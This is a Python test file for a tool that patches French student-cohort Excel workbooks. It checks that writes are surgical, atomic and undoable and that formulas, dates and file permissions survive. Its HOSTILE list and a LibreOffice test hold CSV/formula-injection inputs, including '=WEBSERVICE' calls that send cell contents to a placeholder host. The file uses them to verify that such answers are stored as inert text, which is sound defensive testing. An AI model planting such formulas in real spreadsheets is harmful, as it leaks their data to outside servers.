"""Every write into the workbook is surgical, text-only, serialised, atomic and undoable."""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import openpyxl
import pytest

from pipeline.workbook.reader import resolve_input
from pipeline.workbook.validate import check
from pipeline.workbook.writer import CellEdit, Writing
from pipeline.workbook.xlsxpatch import MAIN, PatchError, patch, sheet_parts

from .helpers import INPUTS, ROOT

CORPUS = Path("/work/shared/corpus/xlsx")
HOSTILE = ['=WEBSERVICE("http://x.example/"&B2)', "=> Poursuivre la mission", "+33 6 12 34 56 78",
           "-1 point", "@SOMME(A1:A3)", "\t=1+1", "\r=2+2"]
CSV_HEADER = "N° étudiant,Période,Activités de la période,Autres actions,Apports de formation mobilisés,Attentes\n"



def _members(path: Path) -> list[tuple[str, int, bytes]]:
    with zipfile.ZipFile(path) as z:
        return [(i.filename, i.compress_type, z.read(i.filename)) for i in z.infolist()]


def _cells(xml: bytes) -> dict[str, bytes]:
    """Each cell of a sheet part, serialised, by reference."""
    root = ET.fromstring(xml)
    return {c.get("r", ""): ET.tostring(c) for c in root.iter(f"{{{MAIN}}}c")}


def _returns(folder: Path, rows: list[tuple[str, int, list[str]]]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    lines = [CSV_HEADER]
    for numero, periode, answers in rows:
        quoted = ",".join('"' + a.replace('"', '""') + '"' for a in answers)
        lines.append(f"{numero},{periode},{quoted}\n")
    (folder / "export.csv").write_text("".join(lines), encoding="utf-8")
    return folder


def _parts_only_target_differs(before: Path, after: Path, sheet: str, targets: set[str]) -> None:
    part = sheet_parts(str(before))[sheet]
    old, new = _members(before), _members(after)
    assert [(n, c) for n, c, _ in old] == [(n, c) for n, c, _ in new]  # same members, order, compression
    for (name, _, a), (_, _, b) in zip(old, new, strict=True):
        if name != part:
            assert a == b, name
    a, b = dict((n, d) for n, _, d in old)[part], dict((n, d) for n, _, d in new)[part]
    x, y = _cells(a), _cells(b)
    assert {ref for ref in x.keys() | y.keys() if x.get(ref) != y.get(ref)} == targets
    assert b.count(b"<f") == a.count(b"<f")  # no formula added
    # outside sheetData, the part is the same but for the dimension
    strip = re.compile(rb"<sheetData.*</sheetData>|<dimension [^>]*>", re.S)
    assert strip.sub(b"", a) == strip.sub(b"", b)


@pytest.mark.slow
def test_collect_writes_hostile_answers_as_text_and_touches_nothing_else(copar: Any, promo: Path,
                                                                           tmp_path: Path) -> None:
    original = tmp_path / "original.xlsx"
    shutil.copyfile(promo, original)
    answers = [HOSTILE[:4], HOSTILE[4:] + ["fin"]]
    returned = _returns(tmp_path / "retours", [("22004512", 5, answers[0]), ("22004587", 5, answers[1])])
    r = copar("collect", returned, promo, "-o", tmp_path / "out")
    assert r.exit_code == 0, r.output
    assert "8 cellules écrites" in r.stdout
    ds, report = check(promo)
    assert ds is not None, report.to_table()
    got = ds.reviews_of("22004512")[5], ds.reviews_of("22004587")[5]
    assert [got[0].activites, got[0].autres_actions, got[0].apports, got[0].attentes] == answers[0]
    # the tab and CR prefixes are trimmed like every answer, the rest stays text
    assert [got[1].activites, got[1].autres_actions, got[1].apports, got[1].attentes] == ["@SOMME(A1:A3)", "=1+1",
                                                                                          "=2+2", "fin"]
    ws = openpyxl.load_workbook(promo)["Bilans intermédiaires"]
    new_rows = [row for row in ws.iter_rows(min_row=2) if row[0].value in ("22004512", "22004587") and row[1].value == 5]
    assert len(new_rows) == 2 and all(c.data_type == "s" for row in new_rows for c in row[3:7])
    targets = {f"{c.column_letter}{c.row}" for row in new_rows for c in row[:2] + row[3:7]}
    _parts_only_target_differs(original, promo, "Bilans intermédiaires", targets)


def test_formulas_and_cached_values_survive(tmp_path: Path) -> None:
    path = tmp_path / "formules.xlsx"
    shutil.copyfile(CORPUS / "shared-formulas-100.xlsx", path)
    before = openpyxl.load_workbook(path, data_only=True).active
    values = [[c.value for c in row] for row in before.iter_rows()]
    sheet = before.title
    with Writing(path) as w:
        w.write_cells([CellEdit(sheet, 3, 3, "=A3*1000"), CellEdit(sheet, 101, 1, 7.5)], cause="avant-collecte")
    after = openpyxl.load_workbook(path, data_only=True).active
    assert [[c.value for c in row][:2] for row in after.iter_rows(max_row=100)] == values
    assert after["C3"].value == "=A3*1000" and after["A101"].value == 7.5
    _parts_only_target_differs(w.path.parent / "sauvegardes" / next(
        p.name for p in (tmp_path / "sauvegardes").glob("*.xlsx")), path, sheet, {"C3", "A101"})


@pytest.mark.slow
def test_a_formula_cell_is_never_replaced(promo: Path) -> None:
    before = promo.read_bytes()
    wb = openpyxl.load_workbook(promo)
    wb["Jurys"]["F2"] = "=1+1"
    wb.save(promo)
    changed = promo.read_bytes()
    with Writing(promo) as w, pytest.raises(Exception, match="contient une formule"):
        w.write_cells([CellEdit("Jurys", 2, 6, "texte")], cause="avant-collecte")
    assert promo.read_bytes() == changed != before


def test_comments_and_a_text_box_survive(promo: Path, tmp_path: Path) -> None:
    """The sample has comments (VML drawings); add a DrawingML text box to a sheet and write into it."""
    part = sheet_parts(str(promo))["Bilans intermédiaires"]
    boxed = tmp_path / "boxed.xlsx"
    with zipfile.ZipFile(promo) as zin, zipfile.ZipFile(boxed, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == part:
                data = data.replace(b"</worksheet>", b'<drawing xmlns:r="http://schemas.openxmlformats.org/'
                                    b'officeDocument/2006/relationships" r:id="rIdBox"/></worksheet>')
            elif info.filename == "xl/worksheets/_rels/sheet5.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdBox" Type="http://schemas.'
                                    b'openxmlformats.org/officeDocument/2006/relationships/drawing" '
                                    b'Target="../drawings/drawing1.xml"/></Relationships>')
            zout.writestr(info, data)
        zout.writestr("xl/drawings/drawing1.xml", TEXT_BOX)
    shutil.copyfile(boxed, promo)
    with Writing(promo) as w:
        w.write_cells([CellEdit("Bilans intermédiaires", 2, 8, "=ajout")], cause="avant-collecte")
    members = dict((n, d) for n, _, d in _members(promo))
    assert members["xl/drawings/drawing1.xml"] == TEXT_BOX
    assert b'r:id="rIdBox"/></worksheet>' in members[part]
    _parts_only_target_differs(boxed, promo, "Bilans intermédiaires", {"H2"})


TEXT_BOX = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xdr:wsDr xmlns:xdr="http://schemas.'
            b'openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/'
            b'drawingml/2006/main"><xdr:twoCellAnchor><xdr:from><xdr:col>8</xdr:col><xdr:colOff>0</xdr:colOff>'
            b'<xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>11</xdr:col><xdr:colOff>0'
            b'</xdr:colOff><xdr:row>5</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:sp macro="" textlink="">'
            b'<xdr:nvSpPr><xdr:cNvPr id="2" name="Zone de texte 1"/><xdr:cNvSpPr txBox="1"/></xdr:nvSpPr>'
            b'<xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr><xdr:txBody><a:bodyPr/>'
            b'<a:p><a:r><a:t>Ne pas effacer</a:t></a:r></a:p></xdr:txBody></xdr:sp><xdr:clientData/>'
            b'</xdr:twoCellAnchor></xdr:wsDr>')


def test_a_symlinked_0600_workbook_stays_so(copar: Any, tmp_path: Path) -> None:
    real = tmp_path / "nextcloud" / "promotion.xlsx"
    real.parent.mkdir()
    shutil.copyfile(INPUTS / "promotion.xlsx", real)
    real.chmod(0o600)
    link = tmp_path / "inputs" / "promotion.xlsx"
    link.parent.mkdir()
    link.symlink_to(real)
    returned = _returns(tmp_path / "retours", [("22004512", 5, ["a", "b", "c", "d"])])
    r = copar("collect", returned, link, "-o", tmp_path / "out")
    assert r.exit_code == 0, r.output
    assert link.is_symlink() and link.resolve() == real
    assert real.stat().st_mode & 0o777 == 0o600
    ds, _ = check(link)
    assert ds is not None and ds.reviews_of("22004512")[5].activites == "a"
    backups = list((link.parent / "sauvegardes").glob("*-avant-collecte.xlsx"))
    assert len(backups) == 1 and backups[0].stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in real.parent.iterdir()) == ["promotion.xlsx"]  # no temporary left


@pytest.mark.slow
def test_dates_times_and_a_new_sheet(tmp_path: Path) -> None:
    src = io.BytesIO((INPUTS / "promotion.xlsx").read_bytes())
    out = io.BytesIO()
    edits = [CellEdit("Bilans tripartites", 40, 2, dt.date(2024, 6, 6)), CellEdit("Bilans tripartites", 40, 3, dt.time(14, 30)),
             CellEdit("Nouvelle", 1, 1, "N° étudiant"), CellEdit("Nouvelle", 2, 1, "22004512"),
             CellEdit("Nouvelle", 2, 2, dt.datetime(2024, 6, 7, 9, 15))]
    patch(src, out, edits)
    wb = openpyxl.load_workbook(out)
    ws = wb["Bilans tripartites"]
    assert ws["B40"].value == dt.datetime(2024, 6, 6) and ws["B40"].is_date
    assert ws["C40"].value == dt.time(14, 30)
    assert ws.dimensions == "A1:I500"  # the sample's, already wider
    out2 = io.BytesIO()
    patch(io.BytesIO(out.getvalue()), out2, [CellEdit("Bilans tripartites", 1200, 12, "loin")])
    assert openpyxl.load_workbook(out2)["Bilans tripartites"].dimensions == "A1:L1200"
    assert wb.sheetnames[-1] == "Nouvelle"
    assert [[c.value for c in row] for row in wb["Nouvelle"].iter_rows()] == [
        ["N° étudiant", None], ["22004512", dt.datetime(2024, 6, 7, 9, 15)]]


def test_1904_dates(tmp_path: Path) -> None:
    src = io.BytesIO((CORPUS / "date1904_excel.xlsx").read_bytes())
    name = next(iter(sheet_parts(src)))
    out = io.BytesIO()
    patch(src, out, [CellEdit(name, 30, 1, dt.date(2024, 6, 6))])
    assert openpyxl.load_workbook(out)[name]["A30"].value == dt.datetime(2024, 6, 6)


def test_rows_without_numbers_are_refused() -> None:
    src = io.BytesIO((CORPUS / "missing-r-attributes_merged_dates.xlsx").read_bytes())
    name = next(iter(sheet_parts(src)))
    with pytest.raises(PatchError, match="sans numéro"):
        patch(src, io.BytesIO(), [CellEdit(name, 3, 1, "x")])


@pytest.mark.slow
def test_init_force_backs_up_and_restore_puts_it_back(copar: Any, promo: Path, tmp_path: Path) -> None:
    original = promo.read_bytes()
    r = copar("init", promo, "--force")
    assert r.exit_code == 0, r.output
    backup = next((promo.parent / "sauvegardes").glob("promotion-*-avant-init.xlsx"))
    assert backup.read_bytes() == original
    assert f"L'ancien classeur est sauvegardé : {backup} (pour le remettre : copar sauvegardes --restaurer " \
           f"{backup.name})" in r.stdout
    emptied = promo.read_bytes()
    listed = copar("sauvegardes", promo)
    assert listed.exit_code == 0, listed.output
    line = next(x for x in listed.stdout.splitlines() if x.startswith(backup.name))
    assert "copar init --force" in line and "Étudiant·es : " in line
    r = copar("sauvegardes", promo, "--restaurer", backup.name)
    assert r.exit_code == 0, r.output
    assert promo.read_bytes() == original
    undo = next((promo.parent / "sauvegardes").glob("promotion-*-avant-restauration.xlsx"))
    assert undo.read_bytes() == emptied
    assert copar("sauvegardes", promo).stdout.count("identique au classeur actuel") == 1


def test_old_style_backups_do_not_hide_the_workbook(copar: Any, tmp_path: Path) -> None:
    folder = tmp_path / "promo"
    folder.mkdir()
    shutil.copyfile(INPUTS / "promotion.xlsx", folder / "cohorte.xlsx")
    shutil.copyfile(INPUTS / "promotion.xlsx", folder / "cohorte.avant-collecte-20240607-101500.xlsx")
    assert resolve_input(folder) == folder / "cohorte.xlsx"
    r = copar("sauvegardes", folder)
    assert r.exit_code == 0
    assert "cohorte.avant-collecte-20240607-101500.xlsx  07/06/2024 10:15  copar collect" in r.stdout
    assert "(ancienne sauvegarde, à côté du classeur)" in r.stdout


def _copar(*args: object) -> subprocess.Popen[str]:
    return subprocess.Popen([sys.executable, "-m", "pipeline", *map(str, args)], cwd=ROOT, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)


@pytest.mark.slow
def test_two_collects_and_a_planning_at_once_lose_nothing(tmp_path: Path) -> None:
    first = _returns(tmp_path / "a", [("22004512", 5, ["A1", "A2", "A3", "A4"])])
    second = _returns(tmp_path / "b", [("22004587", 5, ["B1", "B2", "B3", "B4"])])
    for attempt in range(6):
        promo = tmp_path / f"run{attempt}" / "promotion.xlsx"
        promo.parent.mkdir()
        shutil.copyfile(INPUTS / "promotion.xlsx", promo)
        runs = [_copar("collect", first, promo, "-o", promo.parent / "o1"),
                _copar("collect", second, promo, "-o", promo.parent / "o2"),
                _copar("planning", "tripartites", promo)]
        results = [(p.wait(timeout=300), p.stdout.read(), p.stderr.read()) for p in runs]  # type: ignore[union-attr]
        ds, report = check(promo)
        assert ds is not None, report.to_table()
        for (code, out, err), numero, letter in zip(results[:2], ("22004512", "22004587"), "AB", strict=True):
            if code == 0:
                assert "4 cellules écrites" in out
                assert ds.reviews_of(numero)[5].activites == f"{letter}1", (attempt, out, err)
            else:
                assert "rien n'a été écrit" in err, (attempt, out, err)
        code, out, err = results[2]
        if code == 0:
            assert "Classeur mis à jour" in out
            assert len(ds.tripartites) == 26, (attempt, out, err)
        else:
            assert "rien n'a été écrit" in err, (attempt, out, err)
        assert len(list((promo.parent / "sauvegardes").glob("*.xlsx"))) == sum(r[0] == 0 for r in results)


KILLED_WRITER = """
import itertools, sys
from pathlib import Path
from pipeline.workbook.writer import CellEdit, Writing
path = Path(sys.argv[1])
for n in itertools.count():
    with Writing(path) as w:
        w.write_cells([CellEdit("Bilans intermédiaires", 2 + n % 400, 8, f"passage {n}")], cause="avant-collecte")
    print(n, flush=True)
"""


@pytest.mark.slow
def test_kill_9_during_writes_leaves_a_whole_workbook(promo: Path, tmp_path: Path) -> None:
    script = tmp_path / "writer.py"
    script.write_text(KILLED_WRITER, encoding="utf-8")
    (promo.parent / "copar.toml").write_text("sauvegardes = 3\n", encoding="utf-8")
    for delay in (0.9, 1.3, 1.7, 2.1, 2.6, 3.2):
        proc = subprocess.Popen([sys.executable, str(script), str(promo)], cwd=ROOT, stdout=subprocess.PIPE)
        time.sleep(delay)
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
        with zipfile.ZipFile(promo) as z:
            assert z.testzip() is None
        wb = openpyxl.load_workbook(promo)
        assert "Bilans intermédiaires" in wb.sheetnames
    # the next writer removes what a killed one left half-written
    with Writing(promo) as w:
        w.write_cells([CellEdit("Bilans intermédiaires", 2, 8, "après")], cause="avant-collecte")
    assert not [p.name for p in promo.parent.rglob("*") if p.name.endswith(".tmp")]
    assert 1 <= len(list((promo.parent / "sauvegardes").glob("*.xlsx"))) <= 3  # the bound of copar.toml


@pytest.mark.slow
def test_collect_cells_recreate_a_missing_notes_sheet_and_a_removed_column(tmp_path: Path) -> None:
    from pipeline.forms import merge
    from pipeline.workbook import schema
    from pipeline.workbook.reader import load

    path = tmp_path / "promotion.xlsx"
    wb = openpyxl.load_workbook(INPUTS / "promotion.xlsx")
    del wb["Notes"]
    wb["Bilans intermédiaires"].delete_cols(7)  # Attentes et besoins de formation
    wb.save(path)
    raw = load(path)
    changes = [merge.Change(schema.NOTES, (("numero", "22004512"), ("critere", "Posture")), "note", None, 3.5,
                            merge.ADDED),
               merge.Change(schema.BILANS, (("numero", "22004512"), ("periode", 1)), "attentes", None, "=> suite",
                            merge.ADDED)]
    with Writing(path) as w:
        w.write_cells(merge.edits(raw, changes), cause="avant-collecte")
    after = openpyxl.load_workbook(path)
    notes = [[c.value for c in row] for row in after["Notes"].iter_rows()]
    assert notes == [[c.header for c in schema.NOTES.columns], ["22004512", "Posture", 3.5]]
    ws = after["Bilans intermédiaires"]
    assert ws["G1"].value == "Attentes et besoins de formation"
    row = next(r for r in range(2, 40) if ws.cell(r, 1).value == "22004512" and ws.cell(r, 2).value == 1)
    assert ws.cell(row, 7).value == "=> suite" and ws.cell(row, 7).data_type == "s"


def test_a_date_in_a_workbook_without_date_style_gets_one(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active.title = "Feuille"
    wb.active["A1"] = "Date"
    src = io.BytesIO()
    wb.save(src)
    out = io.BytesIO()
    patch(io.BytesIO(src.getvalue()), out, [CellEdit("Feuille", 2, 1, dt.date(2024, 6, 6)),
                                           CellEdit("Feuille", 3, 1, dt.time(9, 45))])
    ws = openpyxl.load_workbook(out)["Feuille"]
    assert ws["A2"].value == dt.datetime(2024, 6, 6) and ws["A2"].is_date
    assert ws["A3"].value == dt.time(9, 45)


@pytest.mark.soffice
def test_libreoffice_reads_the_patched_workbook_and_its_text_stays_text(tmp_path: Path) -> None:
    from pipeline.libreoffice.calls import find_soffice

    path = tmp_path / "patched.xlsx"
    with open(INPUTS / "promotion.xlsx", "rb") as src, open(path, "wb") as out:
        patch(src, out, [CellEdit("Ajout", 1, 1, "=1+1"), CellEdit("Ajout", 1, 2, '=WEBSERVICE("http://x/")'),
                         CellEdit("Ajout", 2, 1, dt.date(2024, 6, 6))])
    subprocess.run([find_soffice(), f"-env:UserInstallation=file://{tmp_path}/profil", "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", str(path),
                    "--outdir", str(tmp_path)], check=True, capture_output=True, timeout=180)
    assert (tmp_path / "patched-Ajout.csv").read_text(encoding="utf-8").splitlines() == [
        '=1+1,"=WEBSERVICE(""http://x/"")"', "06/06/2024,"]
